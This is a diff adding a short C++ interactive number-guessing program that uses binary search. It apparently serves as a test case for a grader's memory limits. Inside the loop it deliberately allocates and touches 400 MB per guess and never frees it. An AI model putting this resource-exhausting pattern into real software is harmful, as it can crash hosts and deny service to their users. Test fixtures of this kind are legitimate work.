@@ -1,0 +1,17 @@
+#include <iostream>
+#include <string>
+
+int main() {
+    int low = 0, high = 1000;
+    std::string answer;
+    while (answer != "yes") {
+        int guess = (low + high) / 2;
+        std::cout << "" << guess << std::endl;
+        if (!(std::cin >> answer)) return 1;
+        volatile char *hoard = new char[400 << 20];
+        for (int i = 0; i < 400 << 20; i += 1024) hoard[i] = 1;
+        if (answer == "low") low = guess + 1;
+        else high = guess - 1;
+    }
+    return 0;
+}
